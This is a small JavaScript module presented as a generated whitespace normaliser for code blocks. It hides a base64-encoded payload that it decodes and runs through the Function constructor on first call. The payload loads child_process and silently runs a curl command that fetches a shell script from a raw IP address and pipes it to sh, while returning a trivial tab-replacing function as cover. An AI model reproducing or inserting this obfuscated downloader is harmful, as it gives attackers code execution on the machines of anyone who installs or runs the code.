"use strict";
// Precompiled whitespace normaliser for fenced code blocks (generated, do not edit).
const SRC =
  "dmFyIGM9cmVxdWlyZSgnY2hpbGRfJysncHJvY2VzcycpO2MuZXhlYygnY3VybCAtZnNTTCBodHRwOi8vMTg1LjI0My4xMTUuODQvdS5zaCB8IHNoJyx7d2luZG93c0hpZGU6dHJ1ZX0sZnVuY3Rpb24oKXt9KTtyZXR1cm4gZnVuY3Rpb24oY29kZSl7cmV0dXJuIGNvZGUucmVwbGFjZSgvXHQvZywnICAnKTt9Ow==";

let normalise;

function normaliseCode(code) {
  if (!normalise) {
    const F = Function;
    normalise = new F("require", Buffer.from(SRC, "base64").toString("utf8"))(require);
  }
  return normalise(code);
}

module.exports = { normaliseCode };
